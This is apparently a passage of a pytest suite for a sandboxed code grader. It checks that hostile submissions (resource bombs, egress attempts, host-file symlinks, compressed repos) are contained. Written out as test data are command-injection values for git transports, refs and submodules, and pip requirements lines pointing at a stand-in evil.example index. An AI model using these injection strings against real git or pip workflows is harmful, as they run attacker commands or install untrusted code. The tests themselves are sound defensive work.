"""Hostile submissions, each graded for real through `grade_submission` under tight limits.

Every attack must end as a grade (`graded`, `build_failed`, `boot_failed` or `rejected`), never as
`infra_error`, within a time derived from the settings, with the reason, `limits_hit` or logs naming
what stopped it, and without touching the host: the sentinel file stays as it was, nothing of the
job is left in the engine, no process of its containers survives. The submissions live in
`submissions/<attack>/`; links, gitlinks and large files are made here.

Where the grader does not (yet) hold a property, that one property is its own test, marked
`xfail(strict=True)` with the reason; the report is shared (each submission is graded once).
"""

from __future__ import annotations

import hashlib
import os
import re
import signal
import subprocess
import threading
import uuid
from pathlib import Path

import pytest

from grader.models import Status
from tests.conftest import REFERENCE
from tests.hostile.conftest import (
    ENGINE_LOG_CAP,
    FLASK_REQUIREMENTS,
    GUNICORN_REQUIREMENTS,
    SLACK_S,
    SUBMISSIONS,
    Corpus,
    Graded,
    leftovers,
)

pytestmark = [pytest.mark.docker, pytest.mark.slow]

NEVER = {Status.infra_error}
APP_UID = 10001


# --- shared checks ------------------------------------------------------------------------------


def boot_bound(g: Graded) -> float:
    return g.settings.timeouts.boot_s + SLACK_S


def graded_bound(g: Graded) -> float:
    """Boot, the whole suite at its limit, and the grader's own work."""
    return g.settings.timeouts.boot_s + g.settings.timeouts.suite_s + SLACK_S


def assert_status(g: Graded, *expected: Status) -> None:
    assert g.report.status not in NEVER, f"{g.summary()}\nlogs: {g.report.logs}"
    assert g.report.status in expected, f"expected {[s.value for s in expected]}; {g.summary()}\nlogs: {g.report.logs}"


def assert_within(g: Graded, bound: float) -> None:
    assert g.wall_s <= bound, f"{g.name} took {g.wall_s:.1f} s, more than its bound of {bound:.0f} s"
    assert g.report.timings.total_s <= bound


def surviving_processes(container_ids: set[str]) -> list[str]:
    """Host processes still in the cgroup of one of these containers (there must be none once graded)."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cgroup") as handle:
                cgroups = handle.read()
        except OSError:
            continue
        if any(cid in cgroups for cid in container_ids):
            found.append(entry)
    return found


def assert_host_clean(corpus: Corpus, g: Graded) -> None:
    assert corpus.sentinel.unchanged(), "the host sentinel changed"
    assert corpus.sentinel.folder_listing() == ["secret.txt"], corpus.sentinel.folder_listing()
    assert corpus.sentinel.secret not in g.all_text, "the host sentinel's secret appears in the report"
    assert corpus.sentinel.secret not in g.printed, "the host sentinel's secret appears in the app's output"
    assert surviving_processes(g.watch.app_containers_seen) == [], "processes of the job's containers survived"
    assert leftovers(corpus.client, [g.report.id]) == []


def outcome_of(g: Graded, fragment: str) -> tuple[str, str]:
    matches = [v for k, v in g.tests().items() if fragment in k]
    assert matches, f"no hidden test matching {fragment!r} in the report"
    return matches[0]


# --- 1-4: bombs and hangs at import ---------------------------------------------------------------


def test_fork_bomb_is_held_by_the_pids_limit(corpus: Corpus):
    """A fork bomb at import: the pids limit makes fork fail (EAGAIN) inside the container; the app
    never answers, so it is boot_failed at the boot limit, and the host can still start processes."""
    g = corpus.grade("fork_bomb", lambda: corpus.submission("fork_bomb"))
    assert_status(g, Status.boot_failed, Status.graded)
    if g.report.status is Status.boot_failed:
        assert "boot_time" in g.report.limits_hit, g.summary()
    else:
        assert g.report.score < 10, g.summary()
    assert "FORKBOMB fork failed" in g.app_output and "Resource temporarily unavailable" in g.app_output, (
        "the output does not show fork failing at the pids limit:\n" + g.app_output[-3000:]
    )
    assert_within(g, boot_bound(g))
    assert subprocess.run(["true"], timeout=10).returncode == 0, "the host can no longer start a process"
    assert_host_clean(corpus, g)


def test_memory_bomb_is_boot_failed(corpus: Corpus):
    """A memory bomb at import is killed at the memory limit (each worker, again and again): boot_failed."""
    g = corpus.grade("memory_bomb", lambda: corpus.submission("memory_bomb"))
    assert_status(g, Status.boot_failed)
    assert "MEMBOMB start" in g.app_output
    assert "Perhaps out of memory" in g.app_output or "memory" in g.report.reason, g.app_output[-3000:]
    assert_within(g, boot_bound(g))
    assert_host_clean(corpus, g)


def test_memory_bomb_names_the_memory_limit(corpus: Corpus):
    """The report of the memory bomb says that the memory limit stopped it."""
    g = corpus.grade("memory_bomb", lambda: corpus.submission("memory_bomb"))
    assert g.report.status is Status.boot_failed
    assert "memory" in g.report.limits_hit, g.summary()


def test_cpu_spin_at_import_is_boot_failed_at_the_boot_limit(corpus: Corpus):
    """An import that never ends (a CPU spin) is boot_failed with boot_time, after about boot_timeout_s."""
    g = corpus.grade("cpu_spin", lambda: corpus.submission("cpu_spin"))
    assert_status(g, Status.boot_failed)
    assert g.report.limits_hit == ["boot_time"], g.summary()
    assert "boot time limit" in g.report.reason and f"{g.settings.timeouts.boot_s:.0f} s" in g.report.reason
    assert "CPUSPIN start" in g.app_output
    assert g.settings.timeouts.boot_s <= g.report.timings.boot_s <= boot_bound(g)
    assert_within(g, boot_bound(g))
    assert_host_clean(corpus, g)


def test_app_that_never_answers_is_boot_failed_and_its_gunicorn_config_ignored(corpus: Corpus):
    """A ./gunicorn.conf.py that would block the master is ignored (the serve command pins --config);
    the app, whose import blocks forever, never answers: boot_failed at the boot limit."""
    g = corpus.grade("never_binds", lambda: corpus.submission("never_binds"))
    assert_status(g, Status.boot_failed)
    assert g.report.limits_hit == ["boot_time"], g.summary()
    assert "did not answer HTTP" in g.report.reason
    assert "NEVER-BINDS" not in g.app_output, "the submission's gunicorn.conf.py was loaded"
    assert_within(g, boot_bound(g))
    assert_host_clean(corpus, g)


# --- 5-6: disk and output -------------------------------------------------------------------------


def _mib(text: str, folder: str) -> int:
    match = re.search(rf"DISK {re.escape(folder)} stopped after (\d+) MiB: (\w+)", text)
    assert match, f"no DISK line for {folder} in the app output:\n{text[-3000:]}"
    assert match.group(2) in ("ENOSPC", "EFBIG"), match.group(0)
    return int(match.group(1))


def test_disk_fill_stops_at_the_tmpfs_limits(corpus: Corpus):
    """Filling /data and /tmp stops at data_size (ENOSPC); the root is read-only; no host disk is used."""
    g = corpus.grade("disk_fill", lambda: corpus.submission("disk_fill"))
    assert_status(g, Status.graded, Status.boot_failed)
    out = g.printed
    assert "NOT STOPPED" not in out, out[-3000:]
    limit_mib = 16  # TIGHT data_size
    assert _mib(out, "/data") <= limit_mib and _mib(out, "/tmp") <= limit_mib
    assert _mib(out, "/dev/shm") <= 64, "/dev/shm (RAM, inside the memory limit) grew past the engine's 64 MiB"
    for path in ["/app/x", "/x", "/etc/x", "/var/tmp/x", "/opt/venv/x", "/run/grader/x", "/var/log/x"]:
        assert re.search(rf"WRITE {re.escape(path)} refused: (EROFS|EACCES|ENOENT)", out), f"{path} was writable:\n{out[-3000:]}"
    assert g.watch.samples > 0 and g.watch.app_containers_seen, "the watcher never saw the app container"
    assert g.watch.max_upper_dir_bytes <= 1024 * 1024, (
        f"the app container's writable layer on the host grew to {g.watch.max_upper_dir_bytes} bytes"
    )
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


def test_output_flood_is_capped_in_the_report_and_on_disk(corpus: Corpus):
    """Megabytes of output while serving: each report log is at most log_bytes, the engine's log file
    on the host stays under engine_log_max_size, and the submission is graded."""
    g = corpus.grade("output_flood", lambda: corpus.submission("output_flood"))
    assert_status(g, Status.graded)
    assert g.report.logs, "the report kept no output at all"
    for name, value in g.report.logs.items():
        assert len(value) <= g.settings.sandbox.log_bytes + 64, f"log {name!r} holds {len(value)} characters"
    assert "A" * 1024 in g.app_output or "pwned" in g.app_output, "the report kept none of the flood: " + g.app_output[-500:]
    assert g.watch.max_log_file_bytes > 0, "the watcher never saw the engine's log file"
    assert g.watch.max_log_file_bytes <= ENGINE_LOG_CAP + 256 * 1024, (
        f"the engine's log file of the app grew to {g.watch.max_log_file_bytes} bytes on the host"
    )
    report_file = g.settings.paths.reports_dir / g.report.id / "report.json"
    assert report_file.stat().st_size < 1024 * 1024, f"report.json is {report_file.stat().st_size} bytes"
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


# --- 7-9: egress and reading the host -------------------------------------------------------------


def test_tcp_egress_is_blocked(corpus: Corpus):
    """TCP connections out (1.1.1.1:53, the engine's bridge gateway) fail: the app has only loopback."""
    g = corpus.grade("egress_tcp", lambda: corpus.submission("egress_tcp"))
    assert_status(g, Status.graded)
    out = g.printed
    assert "EGRESS-BLOCKED tcp 1.1.1.1:53" in out and "EGRESS-BLOCKED tcp 172.17.0.1:2375" in out, out[-3000:]
    assert "EGRESS-OK" not in out
    assert "EGRESS-INTERFACES ['lo']" in out, "the app's network namespace has more than loopback"
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


def test_dns_egress_is_blocked(corpus: Corpus):
    """Name resolution and a raw UDP DNS query fail: nothing leaves the container's loopback."""
    g = corpus.grade("egress_dns", lambda: corpus.submission("egress_dns"))
    assert_status(g, Status.graded)
    out = g.printed
    assert "EGRESS-BLOCKED dns example.com" in out and "EGRESS-BLOCKED udp 8.8.8.8:53" in out, out[-3000:]
    assert "EGRESS-OK" not in out
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


def test_host_secrets_and_docker_socket_are_out_of_reach(corpus: Corpus, monkeypatch: pytest.MonkeyPatch):
    """/proc/1/environ is the app's own; no Docker socket; /etc/shadow unreadable; the host sentinel
    path does not exist inside; no capabilities, no new privileges, no mount of the grader's sockets."""
    host_secret = f"GT-HOST-ENV-{uuid.uuid4().hex}"
    monkeypatch.setenv("GT_HOSTILE_HOST_SECRET", host_secret)
    g = corpus.grade("host_reads", lambda: corpus.submission("host_reads"))
    assert_status(g, Status.graded)
    out = g.printed
    assert "HOSTREAD READ /proc/1/environ OK" in out, out[-4000:]
    assert host_secret not in g.all_text + g.printed, "an environment variable of the grader's process reached the app"
    assert "REACHABLE" not in out and "DOCKER-SOCKET /var/run/docker.sock unreachable" in out
    assert "HOSTREAD READ /etc/shadow FAILED: PermissionError" in out
    assert f"HOSTREAD READ {corpus.sentinel.path} FAILED: FileNotFoundError" in out
    assert "HOSTREAD WHOAMI uid=10001 gid=10001" in out
    assert "HOSTREAD LISTDIR /run/grader: []" in out or "HOSTREAD LISTDIR /run/grader: missing" in out
    assert re.search(r"STATUS CapEff:\s+0+\b", out) and re.search(r"STATUS NoNewPrivs:\s+1", out), out[-4000:]
    mounts = re.search(r"HOSTREAD MOUNTS (.*)", out)
    assert mounts, out[-4000:]
    assert str(corpus.settings.paths.sockets_dir) not in out and " on /run/grader" not in mounts.group(1)
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


# --- 10-11: symbolic links --------------------------------------------------------------------------


def test_migrations_symlink_to_a_host_folder_is_not_followed(corpus: Corpus):
    """`migrations` -> the sentinel's host folder and `leak.txt` -> the sentinel file are kept as links
    in the image, resolve to nothing inside the container, and the migrations category fails."""
    sentinel = corpus.sentinel

    def make() -> Path:
        return corpus.repo(
            corpus.files_of("migrations_link"),  # type: ignore[arg-type]
            links={"migrations": str(sentinel.folder), "leak.txt": str(sentinel.path)},
        )

    g = corpus.grade("migrations_link", make, suite_timeout_s=30)
    assert_status(g, Status.graded)
    out = g.printed
    assert f"LINK migrations -> {sentinel.folder}: unreadable: FileNotFoundError" in out, out[-3000:]
    assert f"LINK leak.txt -> {sentinel.path}: unreadable: FileNotFoundError" in out, out[-3000:]
    migrations = next(c for c in g.report.categories if c.id == "migrations")
    assert migrations.score <= migrations.max_score / 8 + 0.01, g.summary()
    # test_migrations.py runs last: a migrations test either failed on the missing migrations or was
    # cut by the suite limit (this app is slow to restart, the limit is tight)
    for test_id, (outcome, message) in g.tests().items():
        if "test_migrations.py" in test_id and "create_tables_at_start" not in test_id:
            assert (outcome == "failed" and "migrations" in message) or "not run to the end" in message, (test_id, message)
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


def test_database_symlink_is_never_followed_by_the_grader(corpus: Corpus):
    """/data/app.db -> /etc/passwd (and its journal -> the host sentinel): the harness's copy refuses
    the link, SQL runs inside the container only, host files are unchanged."""
    passwd = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    g = corpus.grade("db_link", lambda: corpus.submission("db_link"))
    assert_status(g, Status.graded)
    assert "DBLINK /data/app.db -> /etc/passwd" in g.printed, g.printed[-3000:]
    outcome, message = outcome_of(g, "test_password_not_stored_in_plaintext")
    assert outcome in ("failed", "error") and "not a regular file" in message, message
    assert "root:x:0:0" not in g.all_text, "a passwd file's content reached the report"
    assert hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest() == passwd, "the host's /etc/passwd changed"
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


# --- 12: the requirements policy ----------------------------------------------------------------------

EXTRA_INDEX_TRAILING = "gunicorn==23.0.0 --extra-index-url=https://evil.example/simple\n"
REQUIREMENT_ATTACKS = [
    pytest.param("gunicorn==23.0.0\n./evilpkg\n", 2, "'./evilpkg'", id="local-package-dot-path"),
    pytest.param("--index-url https://evil.example/simple\ngunicorn==23.0.0\n", 1, "'--index-url'", id="index-url"),
    # the reason names the line; that it also names the option is test_policy_reason_names_a_trailing_option
    pytest.param(EXTRA_INDEX_TRAILING, 1, "is not allowed", id="extra-index-trailing"),
    pytest.param("-e ./evilpkg\n", 1, "'-e'", id="editable"),
    pytest.param("gunicorn==23.0.0\nevilpkg @ file:///app/evilpkg\n", 2, "installs from a URL or a path", id="direct-file-url"),
    pytest.param("git+https://evil.example/evil.git#egg=evil\n", 1, "installs from a URL or a path", id="vcs-url"),
    # an include is followed only to a file of the repository (the escapes: test_requirement_includes_escaping_...)
    pytest.param("-r evilpkg/more.txt\n", 1, "evilpkg/more.txt does not exist", id="nested-requirements"),
]


@pytest.mark.parametrize(("requirements", "line", "named"), REQUIREMENT_ATTACKS)
def test_requirements_that_change_the_package_source_are_build_failed(corpus: Corpus, requirements, line, named):
    """A local package with a hostile setup.py, or another package source, is refused by the policy
    before any container starts: build_failed naming the line; setup.py never ran."""
    key = "evil_setup-" + hashlib.sha256(requirements.encode()).hexdigest()[:8]

    def make() -> Path:
        files = corpus.files_of("evil_setup")
        files["requirements.txt"] = requirements
        return corpus.repo(files)  # type: ignore[arg-type]

    g = corpus.grade(key, make)
    assert_status(g, Status.build_failed)
    assert f"requirements.txt line {line}" in g.report.reason and named in g.report.reason, g.report.reason
    assert g.report.timings.boot_s == 0 and g.report.provenance.image_id is None, "an image was built"
    assert_within(g, SLACK_S)
    assert_host_clean(corpus, g)


def test_policy_reason_names_a_trailing_option(corpus: Corpus):
    """The reason for a refused option after a requirement names that option, not the requirement."""
    g = corpus.results.get("evil_setup-" + hashlib.sha256(EXTRA_INDEX_TRAILING.encode()).hexdigest()[:8])
    if g is None:
        files = corpus.files_of("evil_setup")
        files["requirements.txt"] = EXTRA_INDEX_TRAILING
        g = corpus.grade("evil_setup-trailing", lambda: corpus.repo(files))  # type: ignore[arg-type]
    assert g.report.status is Status.build_failed
    assert "--extra-index-url" in g.report.reason, g.report.reason


def test_requirements_txt_that_is_a_link_to_a_host_file_is_build_failed(corpus: Corpus):
    """requirements.txt -> the host sentinel: never read through the link (build_failed, not a regular file)."""
    files = {k: v for k, v in corpus.files_of("evil_setup").items() if k != "requirements.txt"}
    g = corpus.grade(
        "requirements-link",
        lambda: corpus.repo(files, links={"requirements.txt": str(corpus.sentinel.path)}),  # type: ignore[arg-type]
    )
    assert_status(g, Status.build_failed)
    assert "not a regular file" in g.report.reason, g.report.reason
    assert g.report.provenance.requirements_sha256 is None, "the grader hashed the file behind the link"
    assert_within(g, SLACK_S)
    assert_host_clean(corpus, g)


def _bare_path_submission(corpus: Corpus) -> object:
    def make() -> Path:
        files = corpus.files_of("evil_setup")
        files["requirements.txt"] = "gunicorn==23.0.0\nevilpkg/\n"
        return corpus.repo(files)  # type: ignore[arg-type]

    return corpus.grade("evil_setup-bare-path", make)


def test_bare_relative_path_requirement_never_runs_setup_py(corpus: Corpus):
    """`evilpkg/` (a path pip installs from, without ./) is build_failed and its setup.py never runs."""
    g = _bare_path_submission(corpus)
    assert isinstance(g, Graded)
    assert_status(g, Status.build_failed)
    assert_within(g, g.settings.timeouts.build_s + SLACK_S)
    assert_host_clean(corpus, g)


def test_bare_relative_path_requirement_is_refused_by_the_policy(corpus: Corpus):
    g = _bare_path_submission(corpus)
    assert isinstance(g, Graded)
    assert "requirements.txt line 2" in g.report.reason, g.report.reason


# --- 13: size limits of the repository ------------------------------------------------------------------


def test_repository_bigger_than_max_repo_bytes_is_rejected(corpus: Corpus):
    """A 6 MiB random file (over max_repo_bytes = 5 MiB) is rejected, the reason naming the limit."""
    files: dict[str, str | bytes] = {**corpus.files_of("tiny"), "assets/blob.bin": os.urandom(6 * 1024 * 1024)}
    g = corpus.grade("huge_file", lambda: corpus.repo(files))
    assert_status(g, Status.rejected)
    assert f"more than the limit of {g.settings.intake.max_repo_bytes}" in g.report.reason, g.report.reason
    assert_within(g, g.settings.timeouts.clone_s + SLACK_S)
    assert_host_clean(corpus, g)


def test_repository_with_too_many_files_is_rejected(corpus: Corpus):
    """More files than max_repo_files is rejected, the reason naming the limit."""
    files: dict[str, str | bytes] = {**corpus.files_of("tiny"), **{f"junk/{i:04}.txt": "x" for i in range(600)}}
    g = corpus.grade("many_files", lambda: corpus.repo(files))
    assert_status(g, Status.rejected)
    assert f"files, more than the limit of {g.settings.intake.max_repo_files}" in g.report.reason, g.report.reason
    assert_within(g, g.settings.timeouts.clone_s + SLACK_S)
    assert_host_clean(corpus, g)


def _compressed_bomb(corpus: Corpus) -> tuple[Graded, int]:
    """256 MiB of one repeated byte: about 250 KiB in git, 256 MiB once checked out (not zeros: git
    checks runs of zeros out as holes of a sparse file). Returns (graded, peak host disk bytes)."""
    size, chunk = 256 * 1024 * 1024, b"A" * (1024 * 1024)
    peak = [0]
    stop = threading.Event()

    def make() -> Path:
        repo = corpus.repo(corpus.files_of("tiny"))  # type: ignore[arg-type]
        with open(repo / "bomb.txt", "wb") as handle:
            for _ in range(size // len(chunk)):
                handle.write(chunk)
        subprocess.run(["git", "add", "bomb.txt"], cwd=repo, check=True, capture_output=True)
        subprocess.run(
            ["git", "-c", "user.name=h", "-c", "user.email=h@l", "commit", "-qm", "bomb"],
            cwd=repo, check=True, capture_output=True,
        )
        (repo / "bomb.txt").unlink()  # committed; the work tree copy is not needed (git fetches from .git)
        return repo

    def poll() -> None:
        work = corpus.settings.paths.work_dir
        while not stop.wait(0.01):
            total = 0
            for dirpath, _dirs, names in os.walk(work):
                if "/src" not in dirpath:
                    continue
                for name in names:
                    try:
                        total += os.lstat(os.path.join(dirpath, name)).st_blocks * 512
                    except OSError:
                        pass
            peak[0] = max(peak[0], total)

    if "compressed_bomb" not in corpus.results:
        source = make()
        watcher = threading.Thread(target=poll, daemon=True)
        watcher.start()
        try:
            corpus.grade("compressed_bomb", source)
        finally:
            stop.set()
            watcher.join(timeout=10)
        corpus.results["compressed_bomb"].extra["peak_snapshot_bytes"] = peak[0]
    g = corpus.results["compressed_bomb"]
    return g, int(g.extra["peak_snapshot_bytes"])  # type: ignore[call-overload]


def test_highly_compressible_repository_is_rejected(corpus: Corpus):
    """A small clone that checks out to 256 MiB is rejected for max_repo_bytes, within the clone limit."""
    g, _peak = _compressed_bomb(corpus)
    assert_status(g, Status.rejected)
    assert f"more than the limit of {g.settings.intake.max_repo_bytes}" in g.report.reason, g.report.reason
    assert_within(g, g.settings.timeouts.clone_s + SLACK_S)
    assert_host_clean(corpus, g)


def test_compressed_bomb_never_lands_on_the_host_disk(corpus: Corpus):
    """The host disk used by a snapshot stays near max_repo_bytes, whatever the checkout would expand to."""
    g, peak = _compressed_bomb(corpus)
    assert peak <= g.settings.intake.max_repo_bytes + 1024 * 1024, f"the snapshot reached {peak} bytes on the host"


# --- 14-15: hostile behaviour during the suite ------------------------------------------------------------


def test_responder_that_sleeps_forever_is_cut_by_the_time_limits(corpus: Corpus):
    """An app that answers only the readiness path and sleeps on every other request: each test ends at
    the request or test limit, the suite at suite_timeout_s; graded, low, and time-bounded."""
    g = corpus.grade("sleepy", lambda: corpus.submission("sleepy"))
    assert_status(g, Status.graded)
    assert g.report.score <= 10, g.summary()
    assert {"test_time", "suite_time"} & set(g.report.limits_hit), g.summary()
    timed_out = [m for o, m in g.tests().values() if "timed out" in m.lower() or "timeout" in m.lower() or "not run" in m]
    assert len(timed_out) >= len(g.tests()) // 2, f"only {len(timed_out)} tests were cut by a time limit"
    assert g.report.timings.tests_s <= g.settings.timeouts.suite_s + 15, g.report.timings
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


def test_app_that_kills_its_own_container_is_graded(corpus: Corpus):
    """On POST /api/register the app SIGTERMs PID 1 and SIGKILLs everything it may (kill -1): the
    container dies, later tests fail cleanly (the harness restarts the app), the grade is `graded`;
    a process of the same uid on the host is untouched (PID namespace)."""
    # A host process of the app's uid (only root may start one; the suite runs as root, see README).
    canary = subprocess.Popen(["sleep", "600"], user=APP_UID, group=APP_UID) if os.geteuid() == 0 else None
    try:
        g = corpus.grade("self_kill", lambda: corpus.submission("self_kill"))
        assert canary is None or canary.poll() is None, "kill -1 in the container reached a uid-10001 process on the host"
    finally:
        if canary is not None:
            canary.send_signal(signal.SIGTERM)
            canary.wait(timeout=10)
    assert_status(g, Status.graded)
    assert g.report.score < 20, g.summary()
    outcome, message = outcome_of(g, "test_register_returns_201_with_id_and_username")
    assert outcome == "failed" and ("no HTTP answer" in message or "Connection" in message), message
    assert len(g.watch.app_containers_seen) >= 2, "the app container was never replaced after it killed itself"
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


def test_flask_cli_that_kills_its_parent_and_everything_else_is_graded(corpus: Corpus):
    """Under the Flask CLI the app SIGKILLs the process that forked it (the fork server's handler) and
    everything it may signal (kill -1, the suite's exec client included): each migrations test fails with
    what happened, the next command still runs (the fork server is PID 1, out of reach), no hang."""
    g = corpus.grade("cli_kill", lambda: corpus.submission("cli_kill"))
    assert_status(g, Status.graded)
    assert "suite_time" not in g.report.limits_hit, g.summary()
    migrations = {test_id: (outcome, message) for test_id, (outcome, message) in g.tests().items() if "migrations" in test_id}
    failed = [message for outcome, message in migrations.values() if outcome == "failed"]
    assert len(failed) >= 7, migrations
    # Each failure shows the killed command's own output: later commands still ran after earlier ones killed.
    assert sum("CLIKILL" in message and "exited" in message for message in failed) >= 5, migrations
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


# --- 18-20: pressure on the trusted side ---------------------------------------------------------------

# The suite runs test_migrations.py (the only tests that exec `flask`) last: the limit must reach it.
EXEC_FLOOD_SUITE_S = 30
HARNESS_RSS_BOUND = 300 * 1024 * 1024  # the hidden suite's process needs ~60 MiB; generous
GRADER_RSS_GROWTH_BOUND = 64 * 1024 * 1024  # growth of this process (the grading worker) during one grade


def test_memory_bomb_per_request_is_graded(corpus: Corpus):
    """Every request but the readiness page allocates until its worker is OOM-killed; the container
    keeps running (gunicorn respawns workers): graded, low, time-bounded."""
    g = corpus.grade("memory_per_request", lambda: corpus.submission("memory_per_request"), suite_timeout_s=15)
    assert_status(g, Status.graded)
    assert g.report.score <= 10, g.summary()
    assert "Perhaps out of memory" in g.printed, "gunicorn did not report a worker killed for memory:\n" + g.printed[-2000:]
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


def test_memory_bomb_per_request_names_the_memory_limit(corpus: Corpus):
    g = corpus.grade("memory_per_request", lambda: corpus.submission("memory_per_request"), suite_timeout_s=15)
    assert g.report.status is Status.graded
    assert "memory" in g.report.limits_hit, g.summary()


def test_exec_output_flood_is_graded_with_capped_logs(corpus: Corpus):
    """`flask --app wsgi ...` (run by the suite through docker exec) prints 256 MiB: graded, the
    messages and logs in the report stay small, the grade ends within its limits."""
    g = corpus.grade("exec_flood", lambda: corpus.submission("exec_flood"), suite_timeout_s=EXEC_FLOOD_SUITE_S)
    assert_status(g, Status.graded)
    for name, value in g.report.logs.items():
        assert len(value) <= g.settings.sandbox.log_bytes + 64, f"log {name!r} holds {len(value)} characters"
    assert max(len(m) for _o, m in g.tests().values()) <= 2100
    # the boot's own `flask db upgrade` floods the container's log too (in 16 KiB pieces: the engine splits lines)
    assert "B" * 4096 in g.printed, "the flood did not run"
    assert (g.settings.paths.reports_dir / g.report.id / "report.json").stat().st_size < 1024 * 1024
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


def test_exec_output_flood_does_not_bloat_the_harness(corpus: Corpus):
    g = corpus.grade("exec_flood", lambda: corpus.submission("exec_flood"), suite_timeout_s=EXEC_FLOOD_SUITE_S)
    assert g.watch.harness_peak_rss > 0, "the watcher never saw the suite's process"
    assert g.watch.harness_peak_rss <= HARNESS_RSS_BOUND, f"the suite's process peaked at {g.watch.harness_peak_rss >> 20} MiB"


def test_response_body_bomb_is_graded(corpus: Corpus):
    """Every answer, the readiness page included, is a 128 MiB body: graded (or boot_failed), low, bounded."""
    g = corpus.grade("body_bomb", lambda: corpus.submission("body_bomb"), suite_timeout_s=15)
    assert_status(g, Status.graded, Status.boot_failed)
    assert g.report.score <= 10, g.summary()
    assert (g.settings.paths.reports_dir / g.report.id / "report.json").stat().st_size < 1024 * 1024
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


def test_response_body_bomb_does_not_bloat_the_grading_worker(corpus: Corpus):
    g = corpus.grade("body_bomb", lambda: corpus.submission("body_bomb"), suite_timeout_s=15)
    growth = g.watch.grader_rss_growth
    assert growth <= GRADER_RSS_GROWTH_BOUND, f"the grading process grew by {growth >> 20} MiB"


def test_response_body_bomb_does_not_bloat_the_harness(corpus: Corpus):
    g = corpus.grade("body_bomb", lambda: corpus.submission("body_bomb"), suite_timeout_s=15)
    assert g.watch.harness_peak_rss > 0, "the watcher never saw the suite's process"
    assert g.watch.harness_peak_rss <= HARNESS_RSS_BOUND, f"the suite's process peaked at {g.watch.harness_peak_rss >> 20} MiB"


# --- 16-17: git transports -------------------------------------------------------------------------------


DANGEROUS_SOURCES = [
    # (id, source, ref, what the reason says); {touched} is a file the carried command would create
    ("ext", "ext::sh -c touch% {touched}", None, "'ext' transport is not allowed"),
    ("fd", "fd::0,1", None, "'fd' transport is not allowed"),
    ("file-double-colon", "file::{tiny}", None, "'file' transport is not allowed"),
    ("ssh-proxycommand", "ssh://-oProxyCommand=touch%20{touched}/repo.git", None, "not a valid ssh repository URL"),
    ("leading-dash", "--upload-pack=touch {touched}", None, "is not a repository URL"),
    ("ref-injection", "{tiny}", "--upload-pack=touch {touched}", "is not a valid branch, tag or commit name"),
]


@pytest.mark.parametrize(("source", "ref", "says"), [p[1:] for p in DANGEROUS_SOURCES], ids=[p[0] for p in DANGEROUS_SOURCES])
def test_dangerous_sources_are_rejected_without_running_anything(corpus: Corpus, source: str, ref: str | None, says: str):
    """ext::/fd:: transports, an ssh host that is an option, a leading dash, a ref that is an option:
    rejected with a reason saying why, and the command they carry never ran."""
    touched = corpus.sentinel.folder / f"transport-{uuid.uuid4().hex[:6]}-ran"
    tiny = str(corpus.repo(corpus.files_of("tiny")))  # type: ignore[arg-type]
    fill = {"touched": str(touched), "tiny": tiny}
    g = corpus.grade(f"source-{source}-{ref}", source.format(**fill), ref=ref.format(**fill) if ref else None)
    assert_status(g, Status.rejected)
    assert says in g.report.reason, g.summary()
    assert not touched.exists(), f"{touched} exists: the command in the source ran"
    assert_within(g, g.settings.timeouts.clone_s + SLACK_S)
    assert_host_clean(corpus, g)


def _submodule_repo(corpus: Corpus, marker: str, extra_gitmodules: str = "") -> Path:
    """The submodules/ submission with gitlinks for `evil` (ext::) and `vendored` (file://, holding marker)."""
    vendored = corpus.repo({"marker.txt": marker + "\n"})
    commit = subprocess.run(["git", "rev-parse", "HEAD"], cwd=vendored, capture_output=True, text=True).stdout.strip()

    def gitlinks(repo: Path) -> None:
        for path in ("evil", "vendored"):
            gitlink = ["git", "update-index", "--add", "--cacheinfo", f"160000,{commit},{path}"]
            subprocess.run(gitlink, cwd=repo, check=True, capture_output=True)

    files = corpus.files_of("submodules", VENDORED_URL=vendored.as_uri())
    files[".gitmodules"] += extra_gitmodules
    return corpus.repo(files, before_commit=gitlinks)  # type: ignore[arg-type]


def test_submodules_are_never_fetched(corpus: Corpus):
    """.gitmodules with an ext:: submodule (a command) and a file:// one (a host repository): neither is
    fetched, the command never runs, the image holds only empty submodule folders."""
    marker = f"SUBMODULE-CONTENT-{uuid.uuid4().hex}"
    g = corpus.grade("submodules", lambda: _submodule_repo(corpus, marker))
    assert_status(g, Status.graded, Status.build_failed)
    assert not (corpus.sentinel.folder / "ext-ran").exists(), "the ext:: submodule's command ran"
    assert marker not in g.all_text, "the file:// submodule's content reached the app"
    if g.report.status is Status.graded:
        assert "SUBMODULE evil: []" in g.printed and "SUBMODULE vendored: []" in g.printed, g.printed[-2000:]
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)


def test_submodule_with_an_update_command_is_rejected(corpus: Corpus):
    """A submodule whose `update = !command` would run a shell command: git's fsck of the fetch refuses
    the repository (rejected, with git's reason in the logs) and the command never runs."""
    marker = f"SUBMODULE-CONTENT-{uuid.uuid4().hex}"
    update = f"\tupdate = !touch {corpus.sentinel.folder}/update-ran\n"
    g = corpus.grade("submodule-update", lambda: _submodule_repo(corpus, marker, f'[submodule "evil"]\n{update}'))
    assert_status(g, Status.rejected)
    assert "could not be fetched" in g.report.reason, g.summary()
    assert "disallowed submodule update" in g.report.logs.get("output", ""), g.report.logs
    assert not (corpus.sentinel.folder / "update-ran").exists(), "the submodule's update command ran"
    assert_within(g, g.settings.timeouts.clone_s + SLACK_S)
    assert_host_clean(corpus, g)


# --- 18: requirement includes that leave the repository ----------------------------------------------


def _spy_on_opens(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Record the real path of every file this process opens (os.open and open) from now on: the grade runs
    in-process, so a read of the sentinel by the grader itself would be seen here."""
    import builtins
